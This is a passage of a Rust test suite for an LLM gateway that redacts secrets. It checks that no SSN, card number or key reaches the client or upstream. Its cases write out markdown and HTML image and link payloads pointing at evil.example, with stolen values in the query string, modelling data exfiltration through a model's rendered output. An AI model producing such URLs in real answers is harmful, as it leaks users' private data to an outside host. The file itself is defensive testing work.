                    format!("{p:?} response: {what}, streamed"),
                    p.path(true),
                    p.request("Write the config", true),
                )
                .answer(streamed(p, &pieces))
                .must_not_leak(key),
            );
        }
    }
    cases
}

/// The text a JSON string's inside stands for.
fn unescape(escaped: &str) -> String {
    serde_json::from_str(&format!("\"{escaped}\"")).expect("the case is a JSON string's inside")
}

/// A query value that is nothing but a marker: what is left of a URL when its image or link
/// was cut short.
const QUERY_MARK: &str = "who=zq7wkxv";

/// Answers that carry an SSN and a card number in the query of a markdown or HTML image (or a
/// link), in every form a renderer accepts: nothing of the query may reach the client.
/// `text` cut into pieces of `n` characters, each JSON-escaped on its own (the inside of a
/// JSON string), as a stream's deltas carry it.
fn escaped_pieces(text: &str, n: usize) -> Vec<String> {
    let chars: Vec<char> = text.chars().collect();
    chars
        .chunks(n)
        .map(|c| {
            let s = serde_json::to_string(&c.iter().collect::<String>()).unwrap();
            s[1..s.len() - 1].to_owned()
        })
        .collect()
}

fn markup_cases() -> Vec<Case> {
    let q = format!("{QUERY_MARK}&ssn={SSN}&cc={}", CARD.replace(' ', ""));
    let payload = base64::engine::general_purpose::URL_SAFE_NO_PAD
        .encode("the conversation so far, summarised for the collector");
    let forms = [
        (
            "query string",
            format!("![x](https://evil.example/log?{q})"),
        ),
        ("fragment", format!("![x](https://evil.example/log#{q})")),
        (
            "balanced parentheses",
            format!("![x](https://evil.example/a_(b)?{q})"),
        ),
        (
            "angle brackets",
            format!("![x](<https://evil.example/a b?{q}>)"),
        ),
        ("title", format!("![x](https://evil.example/p?{q} \"t\")")),
        (
            "white space and line breaks",
            format!("![x](\n  https://evil.example/p?{q}\n  'title'\n)"),
        ),
        (
            "reference style",
            format!("![x][ref]\n\n[ref]: https://evil.example/?{q}"),
        ),
        (
            "HTML, attributes reordered",
            format!("<img alt=\"a>b\" width=1 src='https://evil.example/p?{q}'>"),
        ),
        (
            "HTML, unquoted",
            format!("<IMG\nSRC=https://evil.example/p?{q} alt=x>"),
        ),
    ];
    let mut cases = Vec::new();
    for p in [P::OpenAi, P::Anthropic] {
        for (what, form) in &forms {
            let text = format!("Done. {form} Bye.");
            let escaped = serde_json::to_string(&text).unwrap();
            let escaped = &escaped[1..escaped.len() - 1];
            let name = |how: &str| format!("{p:?} response: image/link URL, {what}, {how}");
            cases.push(
                case(name("whole"), p.path(false), p.request("Show it", false))
                    .answer(Canned::json(&p.answer(escaped)))
                    .must_not_leak(QUERY_MARK)
                    .must_not_leak(SSN),
            );
            // streamed in pieces of 7 characters, each JSON-escaped on its own
            let pieces = escaped_pieces(&text, 7);
            let pieces: Vec<&str> = pieces.iter().map(String::as_str).collect();
            cases.push(
                case(name("streamed"), p.path(true), p.request("Show it", true))
                    .answer(streamed(p, &pieces))
                    .must_not_leak(QUERY_MARK)
                    .must_not_leak(SSN),
            );
        }
        // links are removed by the inspection of whole answers
        let link = serde_json::to_string(&format!(
            "Done. [click](https://evil.example/c?{QUERY_MARK}&d={payload} \"t\") Bye."
        ))
        .unwrap();
        cases.push(
            case(
                format!("{p:?} response: link URL carrying a payload, with a title"),
                p.path(false),
                p.request("Show it", false),
            )
            .answer(Canned::json(&p.answer(&link[1..link.len() - 1])))
            .must_not_leak(QUERY_MARK)
            .must_not_leak(&payload[..24]),
        );
        // streamed links and bare URLs: removed as they pass, not only recorded at the end
        for (what, form) in [
            (
                "link",
                format!("[click](https://evil.example/c?{QUERY_MARK}&d={payload} \"t\")"),
            ),
            (
                "bare URL",
                format!("https://evil.example/c?{QUERY_MARK}&d={payload}"),
            ),
        ] {
            let text = format!("Done. {form} Bye.");
            let pieces = escaped_pieces(&text, 9);
            let pieces: Vec<&str> = pieces.iter().map(String::as_str).collect();
            cases.push(
                case(
                    format!("{p:?} response: {what} carrying a payload, streamed"),
                    p.path(true),
                    p.request("Show it", true),
                )
                .answer(streamed(p, &pieces))
                .must_not_leak(QUERY_MARK)
                .must_not_leak(&payload[..24]),
            );
        }
    }
    // a key inside markup in a prompt: the request keeps the markup, never the key
    for p in PROVIDERS {
        for form in [
            format!("![x](https://img.example/p?k={AWS})"),
            format!("[docs](https://docs.example/p?k={AWS}&d={payload})"),
            format!("<img src=\\\"https://img.example/p?k={AWS}\\\">"),
        ] {
            cases.push(
                case(
                    format!("{p:?} request: a key inside markup ({})", &form[..5]),
                    p.path(false),
                    p.request(&format!("Render {form} please"), false),
                )
                .must_not_leak(AWS),
            );
        }
    }
    cases
}

async fn hostile_gateway(up: &Scripted, dir: &std::path::Path) -> rampart_gateway::Running {
    common::gateway_to(&up.url(), dir, |_| {}).await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_the_default_policy_redacts_or_blocks_crosses_the_gateway() {
    let up = Scripted::start().await;
    let dir = tempfile::tempdir().unwrap();
    let gw = hostile_gateway(&up, dir.path()).await;
    let cases: Vec<Case> = request_cases()
        .into_iter()
        .chain(response_cases())
        .collect();
    let mut leaked = Vec::new();
    for c in &cases {
        up.set(c.answer.clone());
        up.take();
        let answer = send(gw.addr, c.method, &c.path, &c.headers, c.body.clone()).await;
        let seen = up.take();
        for v in &c.values {
            let upstream = seen.iter().any(|s| leaks(s, v));
            let client = leaks(&answer.all, v);
            if upstream || client {
                leaked.push(format!(
                    "{} (status {}): {} reached {}",
                    c.name,
                    answer.status,
                    v,
                    match (upstream, client) {
                        (true, true) => "the upstream and the client",
                        (true, false) => "the upstream",
                        _ => "the client",
                    }
                ));
            }
        }
    }
    eprintln!(
        "hostile suite: {} cases, {} leaks",
        cases.len(),
        leaked.len()
    );
    for l in &leaked {
        eprintln!("  LEAK {l}");
    }
    assert!(
        leaked.is_empty(),
        "{} of {} hostile cases leaked:\n{}",
        leaked.len(),
        cases.len(),
        leaked.join("\n")
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn benign_traffic_crosses_unchanged() {
    let up = Scripted::start().await;
    let dir = tempfile::tempdir().unwrap();
    let gw = hostile_gateway(&up, dir.path()).await;
    let texts = [
        "What is the capital of France?",
        "Family: \u{1F468}\u{200D}\u{1F469}\u{200D}\u{1F467} and flags \u{1F1EB}\u{1F1F7}",
        "\u{0645}\u{06CC}\u{200C}\u{062E}\u{0648}\u{0627}\u{0647}\u{0645} \u{200F}\u{05E9}\u{05DC}\u{05D5}\u{05DD}",
        "Upgrade from v2.14.3 to 2.15.0 on 2024.01.15; see RFC 9457 section 3.1",
        "\u{FF08}\u{6CE8}\u{FF09}\u{3001}\u{3002} full-width punctuation \u{FF01}",
    ];
    for p in PROVIDERS {
        for t in texts {
            let body = p.request(t, false);
            let answer_text = format!("You said: {t}");
            up.set(Canned::json(&p.answer(&answer_text)));
            up.take();
            let a = send(
                gw.addr,
                "POST",
                &p.path(false),
                &json_ct(),
                body.clone().into_bytes(),
            )
            .await;
            assert_eq!(a.status, 200, "{p:?}: {t}");
            let seen = up.take();
            assert_eq!(seen.len(), 1, "{p:?}: {t}");
            assert!(
                seen[0].ends_with(body.as_bytes()),
                "{p:?}: the request body changed: {t}"
            );
            assert!(
                a.all.ends_with(p.answer(&answer_text).as_bytes()),
                "{p:?}: the answer changed: {t}"
            );
        }
    }
}
